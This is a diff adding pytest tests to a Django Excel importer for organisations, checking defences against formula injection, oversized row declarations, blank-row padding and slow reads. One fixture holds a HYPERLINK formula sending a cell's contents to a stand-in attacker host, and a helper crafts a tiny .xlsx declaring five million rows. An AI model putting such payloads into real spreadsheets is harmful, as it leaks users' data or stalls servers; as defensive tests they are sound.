@@ -1,6 +1,8 @@
 import datetime
 import io
+import re
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -433,3 +435,109 @@ def test_django_field_messages_are_chinese_too(manager):
     reason = result.rejected[0].reason
     assert "电子邮箱：" in reason and "有效" in reason
     assert "名称：" in reason and "120" in reason
+
+
+# ---- defect 4: the rejected-rows file writes text as text ---------------------------------------
+
+
+def test_rejected_rows_file_writes_formula_like_values_as_text(manager):
+    name = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADERS)
+    values = row(1, 名称=name, 联系电话="123", 简介="@SUM(1+1)")
+    ws.append([values.get(h) for h in HEADERS])
+    ws.cell(row=2, column=1).data_type = "s"  # the uploaded cell holds text, as a user's file would
+    buf = io.BytesIO()
+    wb.save(buf)
+    result = import_organisations(io.BytesIO(buf.getvalue()), user=manager)
+    assert [r.row for r in result.rejected] == [2]
+    out = load_workbook(io.BytesIO(result.rejected_workbook())).active
+    cells = {c.value: c for c in out[2]}
+    for text in (name, "@SUM(1+1)"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix
+
+
+# ---- defect 11: a file declaring millions of rows ------------------------------------------------
+
+
+def _with_sheet_xml(content: bytes, edit) -> bytes:
+    """Rewrite the first worksheet's XML of an .xlsx (to give it a shape openpyxl would not write)."""
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(content))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = edit(data.decode()).encode()
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+def test_a_file_declaring_five_million_rows_stops_at_the_row_limit_quickly(manager):
+    """49 KB declaring 5,000,000 rows held the import for 36 s and 600 MB: openpyxl fills
+    the gap up to the last row with empty rows. Rows are counted as read, blank ones too."""
+    import time
+
+    def declare(xml):
+        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD5000000"/>', xml)
+        far = '<row r="5000000"><c r="A5000000" t="inlineStr"><is><t>末行</t></is></c></row>'
+        return xml.replace("</sheetData>", far + "</sheetData>")
+
+    content = _with_sheet_xml(xlsx([row(1)]), declare)
+    assert len(content) < 50_000
+    started = time.monotonic()
+    with pytest.raises(ImportFileError, match="空行也计入读取行数"):
+        import_organisations(io.BytesIO(content), user=manager)
+    assert time.monotonic() - started < 15
+    assert not Organisation.objects.exists()
+
+
+def test_blank_rows_written_in_the_file_count_too(manager, monkeypatch):
+    from core import excel
+
+    monkeypatch.setattr(excel, "MAX_BLANK_ROWS", 50)
+    monkeypatch.setattr("orgs.imports.MAX_ROWS", 10)
+
+    def blank_rows(xml):
+        rows = "".join(f'<row r="{n}"/>' for n in range(3, 3 + 61))
+        return xml.replace("</sheetData>", rows + "</sheetData>")
+
+    content = _with_sheet_xml(xlsx([row(1)]), blank_rows)
+    with pytest.raises(ImportFileError, match="请删除数据下方的空行"):
+        import_organisations(io.BytesIO(content), user=manager)
+    # under the limit, blank rows are simply skipped
+    content = _with_sheet_xml(xlsx([row(1)]), lambda xml: xml.replace("</sheetData>", '<row r="9"/></sheetData>'))
+    assert import_organisations(io.BytesIO(content), user=manager).created == 1
+
+
+def test_reading_is_bounded_in_time(manager, monkeypatch):
+    from core import excel
+
+    monkeypatch.setattr("orgs.imports.READ_SECONDS", 0)
+    monkeypatch.setattr(excel, "DEADLINE_CHECK_EVERY", 2)
+    with pytest.raises(ImportFileError, match="读取文件超过 0 秒仍未完成，已停止导入，没有写入任何数据"):
+        run([row(n) for n in range(1, 6)], manager)
+    assert not Organisation.objects.exists()
+
+
+def test_bulk_audit_goes_through_core_workflow(manager, monkeypatch):
+    """The importer writes no StateLog by hand: its audit rows come from core.workflow.log_bulk."""
+    import orgs.imports
+    from core import workflow
+
+    calls = []
+    real = workflow.log_bulk
+
+    def spy(*args, **kwargs):
+        calls.append((args, kwargs))
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(orgs.imports, "log_bulk", spy)
+    run([row(1), row(2)], manager)
+    ((args, kwargs),) = calls
+    assert args[0] is Organisation and len(args[1]) == 2
+    assert kwargs["by"] == manager and kwargs["reason"] == IMPORT_REASON
+    assert "StateLog" not in Path(orgs.imports.__file__).read_text(encoding="utf-8")
